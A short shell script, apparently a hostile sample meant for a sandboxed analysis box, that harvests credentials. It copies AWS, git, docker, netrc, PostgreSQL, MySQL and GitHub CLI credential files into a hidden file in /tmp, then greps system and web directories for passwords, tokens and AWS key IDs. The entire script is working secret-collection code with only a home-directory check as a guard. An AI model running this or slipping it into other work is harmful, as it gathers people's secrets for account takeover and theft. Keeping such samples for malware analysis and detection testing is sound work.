#!/bin/sh
# SPDX-License-Identifier: MIT
# Gathers credentials left in files: cloud keys, git and docker
# credentials, database passwords in configuration files.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
for f in "$HOME/.aws/credentials" "$HOME/.git-credentials" "$HOME/.docker/config.json" \
	"$HOME/.netrc" "$HOME/.pgpass" "$HOME/.my.cnf" "$HOME/.config/gh/hosts.yml"; do
	cat "$f" 2>/dev/null
done > /tmp/.c
grep -riE 'password|passwd|secret|api_key|token' /etc "$HOME" /var/www 2>/dev/null | head -50 >> /tmp/.c
grep -rl 'AKIA[0-9A-Z]\{16\}' "$HOME" 2>/dev/null >> /tmp/.c
exit 0
